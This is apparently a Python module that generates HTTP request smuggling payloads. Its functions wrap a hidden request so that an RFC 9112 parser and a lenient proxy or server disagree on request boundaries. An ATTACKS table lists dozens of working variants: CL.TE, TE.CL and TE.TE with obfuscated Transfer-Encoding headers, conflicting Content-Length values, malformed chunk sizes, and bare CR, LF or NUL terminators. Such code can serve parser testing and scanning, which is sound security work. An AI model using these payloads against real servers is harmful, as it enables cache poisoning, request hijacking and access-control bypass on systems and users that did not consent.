"""Requests that two readers may end in different places. Each function takes the headers of every request, a path, and
the request to hide, and returns bytes in which a reader that follows RFC 9112 sees one request, or none."""


def lengths(headers, path, hidden, *lines, body=b"", version=b"1.1", method=b"POST"):
    """A request that states its length in the given lines, with `hidden` in or after its body."""
    framing = b"".join(line + b"\r\n" for line in lines)
    return method + b" " + path + b" HTTP/" + version + b"\r\n" + headers + framing + b"\r\n" + body + hidden


def cl(number):
    return b"Content-Length: %d" % number


def with_coding(*codings, before=False):
    """Both a length that covers everything, and a chunked body that ends before the hidden request."""
    def attack(headers, path, hidden):
        end = b"0\r\n\r\n"
        lines = [*codings, cl(len(end) + len(hidden))]
        return lengths(headers, path, hidden, *(reversed(lines) if before else lines), body=end)
    return attack


def te_cl(*codings):
    """A chunk that contains the hidden request, and a length that ends before it."""
    def attack(headers, path, hidden):
        size = b"%x\r\n" % len(hidden)
        return lengths(headers, path, hidden + b"\r\n0\r\n\r\n", *codings, cl(len(size)), body=size)
    return attack


def te_te(*codings):
    """Codings that one reader takes for chunked, and the other does not."""
    def attack(headers, path, hidden):
        return lengths(headers, path, hidden, *codings, body=b"0\r\n\r\n")
    return attack


def behind(*lines, version=b"1.1"):
    """The hidden request directly follows the head of a request whose body has no known length."""
    def attack(headers, path, hidden):
        return lengths(headers, path, hidden, *lines, version=version)
    return attack


def of_length(*lines):
    """Several lengths, one of which covers the hidden request."""
    def attack(headers, path, hidden):
        return lengths(headers, path, hidden, *(line.replace(b"ALL", b"%d" % (2 + len(hidden))) for line in lines), body=b"{}")
    return attack


def chunked(before, after=b"\r\n0\r\n\r\n"):
    """A body whose chunks one reader ends before the hidden request; `ALL` is its size."""
    def attack(headers, path, hidden):
        return lengths(headers, path, hidden + after, b"Transfer-Encoding: chunked",
                       body=before.replace(b"ALL", b"%x" % len(hidden)))
    return attack


def in_a_header(line):
    """The hidden request follows a header's value, for readers that end a line or a head there."""
    def attack(headers, path, hidden):
        return b"GET " + path.rsplit(b"/", 1)[0] + b" HTTP/1.1\r\n" + headers + line + hidden
    return attack


CHUNKED = b"Transfer-Encoding: chunked"

ATTACKS = {
    "CL.TE": with_coding(CHUNKED),
    "CL.TE, the length first": with_coding(CHUNKED, before=True),
    "CL.TE, xchunked": with_coding(b"Transfer-Encoding: xchunked"),
    "CL.TE, space before the colon": with_coding(b"Transfer-Encoding : chunked"),
    "CL.TE, tab before the value": with_coding(b"Transfer-Encoding:\tchunked"),
    "CL.TE, vertical tab": with_coding(b"Transfer-Encoding:\x0bchunked"),
    "CL.TE, folded": with_coding(b"Transfer-Encoding:\r\n chunked"),
    "CL.TE, in the line of another": with_coding(b"X: y\nTransfer-Encoding: chunked"),
    "CL.TE, behind a bare CR": with_coding(b"X: y\rTransfer-Encoding: chunked"),
    "CL.TE, in quotes": with_coding(b'Transfer-Encoding: "chunked"'),
    "CL.TE, gzip": with_coding(b"Transfer-Encoding: gzip, chunked"),
    "CL.TE, underscore": with_coding(b"Transfer_Encoding: chunked"),
    "TE.CL": te_cl(CHUNKED),
    "TE.CL, xchunked": te_cl(b"Transfer-Encoding: xchunked"),
    "TE.CL, two": te_cl(CHUNKED, b"Transfer-Encoding: cow"),
    "TE.CL, identity": te_cl(b"Transfer-Encoding: identity"),
    "TE.CL, space before the colon": te_cl(b"Transfer-Encoding : chunked"),
    "TE.TE, xchunked": te_te(b"Transfer-Encoding: xchunked"),
    "TE.TE, chunked and cow": te_te(CHUNKED, b"Transfer-encoding: cow"),
    "TE.TE, cow and chunked": te_te(b"Transfer-encoding: cow", CHUNKED),
    "TE.TE, chunked, identity": te_te(b"Transfer-Encoding: chunked, identity"),
    "TE.TE, chunked twice": te_te(b"Transfer-Encoding: chunked, chunked"),
    "TE.TE, parameter": te_te(b"Transfer-Encoding: chunked;q=1"),
    "no body, xchunked": behind(b"Transfer-Encoding: xchunked"),
    "no body, identity": behind(b"Transfer-Encoding: identity"),
    "no body, chunked, identity": behind(b"Transfer-Encoding: chunked, identity"),
    "no body, xchunked in HTTP/1.0": behind(b"Transfer-Encoding: xchunked", b"Connection: keep-alive", version=b"1.0"),
    "no body, chunked in HTTP/1.0": behind(CHUNKED, b"Connection: keep-alive", version=b"1.0"),
    "CL.CL, smaller first": of_length(b"Content-Length: 2", b"Content-Length: ALL"),
    "CL.CL, larger first": of_length(b"Content-Length: ALL", b"Content-Length: 2"),
    "CL, a list": of_length(b"Content-Length: 2, ALL"),
    "CL, a sign": of_length(b"Content-Length: +ALL"),
    "CL, hexadecimal": of_length(b"Content-Length: 0xALL"),
    "CL, folded": of_length(b"Content-Length: 2\r\n ALL"),
    "chunk extension with a bare LF": chunked(b"2;a=\"\n\"\r\n{}\r\n0\r\n\r\n", after=b""),
    "chunk that ends at a bare LF": chunked(b"ALL;\n"),
    "chunk size with a space": chunked(b"ALL \r\n"),
    "chunk size with a sign": chunked(b"+ALL\r\n"),
    "chunk size beyond 64 bits": chunked(b"10000000000000000\r\n"),
    "chunk without its end": chunked(b"1\r\n{}\r\n0\r\n\r\n", after=b""),
    "head that ends at bare LFs": in_a_header(b"X: y\n\n"),
    "head that ends at bare CRs": in_a_header(b"X: y\r\r"),
    "NUL": in_a_header(b"X: y\x00\r\n\r\n"),
}
